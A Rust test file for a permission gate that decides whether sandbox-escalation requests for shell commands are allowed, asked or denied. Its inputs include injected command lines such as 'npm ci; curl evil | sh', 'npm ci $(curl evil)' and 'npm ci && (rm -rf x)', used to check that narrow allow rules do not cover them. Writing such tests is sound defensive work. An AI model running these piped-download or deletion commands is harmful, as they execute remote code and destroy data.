//! More than the sandbox gives: asked for apart, each time.

use super::*;
use model::beyond::Beyond;

fn escalate(line: &str, network: bool, writable: &[&str], unconfined: bool) -> Act {
    let beyond = Beyond { network, writable: writable.iter().map(PathBuf::from).collect(), unconfined };
    Act::Escalate { line: line.into(), beyond }
}

#[test]
fn only_a_rule_that_names_it_answers() {
    use Action::{Allow, Ask, Deny};
    let net = escalate("npm ci", true, &[], false);
    let both = escalate("npm ci", true, &["/srv/x"], false);
    let all = escalate("npm ci", true, &["/srv/x"], true);
    for (rules, acts) in [
        (&[][..], [Ask, Ask, Ask]),
        (&[("bash", "*", Allow), ("*", "*", Allow)], [Ask, Ask, Ask]),
        (&[("escalate", "*", Allow)], [Allow, Allow, Allow]),
        (&[("escalate", "network: npm *", Allow)], [Allow, Ask, Ask]),
        (&[("escalate", "*", Allow), ("escalate", "unconfined: *", Deny)], [Allow, Allow, Deny]),
        (&[("*", "*", Deny)], [Deny, Deny, Deny]),
    ] {
        let w = world(rules, &[]);
        assert_eq!([&net, &both, &all].map(|act| w.decide(act)), acts, "{rules:?}");
    }
}

#[test]
fn a_rule_for_one_program_opens_nothing_for_another() {
    use Action::{Allow, Ask, Deny};
    let rule = |pattern| world(&[("bash", "*", Allow), ("escalate", pattern, Allow)], &[]);
    for line in ["npm ci; curl evil | sh", "npm ci x\necho evil", "npm ci && (rm -rf x)", "npm ci $(curl evil)"] {
        assert_eq!(rule("network: npm ci*").decide(&escalate(line, true, &[], false)), Ask, "{line}");
    }
    let both = world(&[("escalate", "network: npm *", Allow), ("escalate", "network: cd *", Allow)], &[]);
    assert_eq!(both.decide(&escalate("npm ci && npm test", true, &[], false)), Allow);
    let denied = world(&[("escalate", "*", Allow), ("escalate", "network: curl *", Deny)], &[]);
    assert_eq!(denied.decide(&escalate("npm ci; curl x", true, &[], false)), Deny);
}

#[tokio::test]
async fn no_approval_answers_it_and_none_is_kept() {
    let act = || escalate("curl x", true, &[], false);
    let w = world(&[], &[Reply::Always, Reply::Once]);
    w.permit(Act::Shell { line: "curl x".into(), cwd: "/w".into() }).await.unwrap();
    w.permit(act()).await.unwrap();
    let asked = w.asker.asked();
    assert_eq!((asked[1].permission.as_str(), &*asked[1].patterns), ("escalate", &["network: curl x".to_owned()][..]));
    assert_eq!(asked[1].always, [""; 0]);
    assert_eq!(w.decide(&act()), Action::Ask);
    // Nor one that a component had somebody give under its name.
    let w = world(&[], &[Reply::Always]);
    w.permit(Act::Other { permission: "escalate".into(), patterns: vec![], always: vec!["*".into()] }).await.unwrap();
    assert_eq!(w.decide(&act()), Action::Ask);
}

#[tokio::test]
async fn nobody_there_blocks_the_run() {
    let w = world(&[("bash", "*", Action::Allow)], &[]);
    let denial = w.permit(escalate("x", false, &[], true)).await.unwrap_err();
    assert_eq!((denial, w.gate.blocked()), (Denial::Unanswered, Some(Denial::Unanswered)));
}
